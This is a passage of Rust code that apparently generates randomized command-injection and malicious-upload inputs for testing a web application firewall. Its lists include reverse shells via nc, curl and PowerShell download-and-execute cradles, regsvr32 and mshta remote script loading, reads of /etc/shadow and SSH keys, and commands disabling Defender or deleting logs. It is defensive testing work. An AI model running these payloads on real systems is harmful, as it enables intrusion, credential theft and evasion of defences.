            rng.pick(&["echo", "printf %s", "nslookup", "ping -c 1"])
        ),
        10 => format!("{}{word} {args}", rng.pick(&["!-1;", "!!;", "!?x?;"])),
        _ => {
            format!(
                "() {{ :;}}; {}",
                rng.pick(&["/bin/bash -c", "/bin/sh -c", "/usr/bin/env bash -c"])
            ) + &format!(" '{word} {args}'")
        }
    };
    let sep = rng.pick(&[";", "|", "&&", "||", "\n", "$(", "`", "; ", " && "]);
    let close = match sep {
        "$(" => ")",
        "`" => "`",
        _ => "",
    };
    let context = rng.pick(&["1", "x", "", "127.0.0.1", "a.txt", "1'", "x\""]);
    // Shellshock is a whole value (a header's or variable's), not a tail.
    if line.starts_with("()") {
        return line;
    }
    format!("{context}{sep}{line}{close}")
}

/// A Unix command and its arguments for [`rce_shell`]: the families of
/// [`unix_command`] with other members.
fn shell_command(rng: &mut Rng) -> (&'static str, &'static str) {
    let commands = [
        ("cat", "/etc/passwd"),
        ("head", "-c 200 /etc/shadow"),
        ("grep", "-r root /etc"),
        ("find", "/ -perm -4000"),
        ("ls", "-al /root"),
        ("id", "-u"),
        ("uname", "-r"),
        ("wget", "-q -O- http://x.example/s"),
        ("curl", "-fsSL http://x.example/s"),
        ("nc", "192.0.2.7 4444 -e /bin/sh"),
        ("bash", "-c id"),
        ("python3", "-c 'import os;os.system(\"id\")'"),
        ("chmod", "777 /tmp/s"),
        ("rm", "-f /var/log/auth.log"),
        ("sleep", "7"),
        ("ping", "-c 4 192.0.2.7"),
        ("dig", "+short x.example"),
        ("awk", "'BEGIN{system(\"id\")}'"),
    ];
    commands[rng.below(commands.len())]
}

/// `word` in ANSI-C quoting, each letter or some as `\xHH` or `\OOO`.
fn ansi_c_quoted(rng: &mut Rng, word: &str) -> String {
    let octal = rng.chance(50);
    let mut out = String::from("$'");
    for b in word.bytes() {
        if octal {
            let _ = write!(out, "\\{b:03o}");
        } else if rng.chance(70) {
            let _ = write!(out, "\\x{b:02x}");
        } else {
            out.push(b as char);
        }
    }
    out.push('\'');
    out
}

/// Windows command injection in the styles of `cmd.exe` and `PowerShell`
/// that [`windows_rce`] does not write: `cmd /c` and `/v:on` with delayed
/// expansion, `%VAR:~x,y%` substrings, `for` loops, caret and quote
/// splitting, `PowerShell` cmdlets (Verb-Noun) and their aliases,
/// `-EncodedCommand` and its abbreviations, `IEX` cradles, `$env:`
/// variables, `-f` format and `+` concatenation of command names, and the
/// binaries that run code for an attacker (`rundll32`, `regsvr32`,
/// `mshta`, `forfiles`).
fn rce_win(rng: &mut Rng) -> String {
    let command = match rng.below(10) {
        0 => format!(
            "cmd{} /{} {}",
            rng.pick(&["", ".exe", ".EXE"]),
            rng.pick(&["c", "C", "k", "r"]),
            rng.pick(&["whoami", "\"net user\"", "type c:\\windows\\win.ini", "dir %USERPROFILE%"])
        ),
        1 => format!(
            "cmd /v:on /c \"set a={}&& set b={}&& call !a!!b!\"",
            rng.pick(&["who", "net", "ipcon"]),
            rng.pick(&["ami", " user", "fig"])
        ),
        2 => format!(
            "{} /c whoami",
            rng.pick(&[
                "%COMSPEC:~0%",
                "%ComSpec:~-7,3%",
                "%SystemRoot:~0,1%:\\windows\\system32\\cmd",
                "%WINDIR:~0,3%system32\\cmd"
            ])
        ),
        3 => format!(
            "for /f \"tokens=*\" %{v} in ('{}') do {}",
            rng.pick(&["whoami", "dir /b c:\\", "type c:\\boot.ini"]),
            rng.pick(&["@echo %i", "nslookup %i.x.example", "curl http://x.example/?%i"]),
            v = rng.pick(&["i", "a", "x"])
        ),
        4 => format!(
            "{} {} {}",
            rng.pick(&["powershell", "powershell.exe", "pwsh", "PowerShell -nop"]),
            rng.pick(&["-EncodedCommand", "-enc", "-e", "-ec", "-EnCoDeDcOmMaNd"]),
            rng.pick(&["SQBFAFgAIAAoAGkAdwByACkA", "dwBoAG8AYQBtAGkA", "JABjAD0AbgBlAHcA"])
        ),
        5 => format!(
            "{} {}",
            rng.pick(&[
                "Invoke-WebRequest -Uri http://x.example/s.exe -OutFile",
                "iwr http://x.example/s.ps1 -OutFile",
                "Start-BitsTransfer -Source http://x.example/s.exe -Destination",
                "(New-Object System.Net.WebClient).DownloadFile('http://x.example/s.exe',",
            ]),
            rng.pick(&["$env:TEMP\\s.exe", "c:\\users\\public\\s.exe"])
        ),
        6 => rng
            .pick(&[
                "irm http://x.example/a | iex",
                "IEX (iwr 'http://x.example/a' -UseBasicParsing)",
                "Get-Content $env:USERPROFILE\\.ssh\\id_rsa",
                "gci -Recurse c:\\users -Filter *.kdbx",
                "Start-Process calc.exe",
                "Stop-Service -Name WinDefend",
                "Set-MpPreference -DisableRealtimeMonitoring $true",
                "Get-WmiObject Win32_Process",
                "Get-LocalUser",
                "echo $env:COMPUTERNAME",
                "& (\"{1}{0}\" -f 'ex','i') 'whoami'",
                "&('In'+'voke-Expression') 'whoami'",
                "[System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('dwBoAG8AYQBtAGkA'))|iex",
                "i`e`x (gc c:\\x.ps1)",
                "${env:ComSpec} /c whoami",
            ])
            .to_owned(),
        7 => rng
            .pick(&[
                "rundll32 url.dll,FileProtocolHandler calc.exe",
                "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"",
                "regsvr32 /s /n /u /i:http://x.example/s.sct scrobj.dll",
                "mshta http://x.example/s.hta",
                "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run(\"\"calc\"\")\")",
                "forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe",
                "certutil -decode s.b64 s.exe",
                "wmic /node:127.0.0.1 process call create \"cmd /c whoami\"",
                "schtasks /create /sc minute /tn x /tr c:\\s.exe",
                "reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
                "net1 user x P@ss /add",
                "sc create x binPath= c:\\s.exe",
            ])
            .to_owned(),
        8 => {
            let word = rng.pick(&["whoami", "ipconfig", "systeminfo", "tasklist", "hostname"]);
            let (a, b) = word.split_at(word.len() / 2);
            match rng.below(3) {
                0 => format!("{a}\"{b}\""),
                1 => format!("{a}^{b}"),
                _ => format!("\"{a}\"\"{b}\""),
            }
        }
        _ => format!(
            "ping -n {} {}",
            rng.pick(&["3", "10", "21"]),
            rng.pick(&["127.0.0.1", "x.example", "%USERNAME%.x.example"])
        ),
    };
    let sep = rng.pick(&["&", "&&", "|", "||", "\r\n", "\n", " & ", " | ", ";"]);
    let context = rng.pick(&["1", "x", "", "127.0.0.1", "a.txt", "x\"", "1'"]);
    format!("{context}{sep}{command}")
}

/// The name of an uploaded file a web server or a shell would run or
/// read as configuration (932180): shell and Windows scripts, dotfiles of
/// shells, `.htaccess`, `.user.ini`, configuration files of web servers
/// and applications (`wp-config.php`, `.env`, `web.config`) and their
/// backups.
fn rce_file(rng: &mut Rng) -> String {
    let stem = rng.pick(&["shell", "x", "update", "run", "backup-2024", "a b"]);
    match rng.below(5) {
        0 => format!(
            "{stem}.{}",
            rng.pick(&["sh", "bash", "zsh", "ps1", "psm1", "bat", "cmd", "vbs", "hta", "wsf"])
        ),
        1 => rng
            .pick(&[
                ".htaccess",
                ".htpasswd",
                ".bashrc",
                ".bash_profile",
                ".profile",
                ".zshrc",
                ".user.ini",
            ])
            .to_owned(),
        2 => format!(
            "{}.{}",
            rng.pick(&[
                "wp-config.php",
                "config.php",
                "settings.py",
                "database.yml",
                "web.config"
            ]),
            rng.pick(&["bak", "old", "orig", "save", "swp", "tmp"])
        ),
        3 => format!("{stem}.{}", rng.pick(&["SH", "Ps1", "sh.", "bat "])),
        // The configuration a web server or an application reads from its
        // own directory.
        _ => rng
            .pick(&[
                "wp-config.php",
                "settings.php",
                "settings.local.php",
                ".env",
                ".env.production",
                "config.yml",
                "parameters.yaml",
                "services.yml",
                "local.xml",
                "web.config",
                "php.ini",
                ".htdigest",
            ])
            .to_owned(),
    }
}

/// An upload carrying the file named `name` (a multipart form).
fn upload_request(rng: &mut Rng, name: &str) -> Request<'static> {
    let boundary = "----formdata7MA4YWxk";
    let field = rng.pick(&["file", "upload", "attachment", "avatar"]);
    let body = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"{field}\"; filename=\"{name}\"\r\n\
         Content-Type: application/octet-stream\r\n\r\n\x00\x01data\r\n--{boundary}--\r\n"
    );
    Request::new("POST", "/upload").body(format!("multipart/form-data; boundary={boundary}"), body)
}
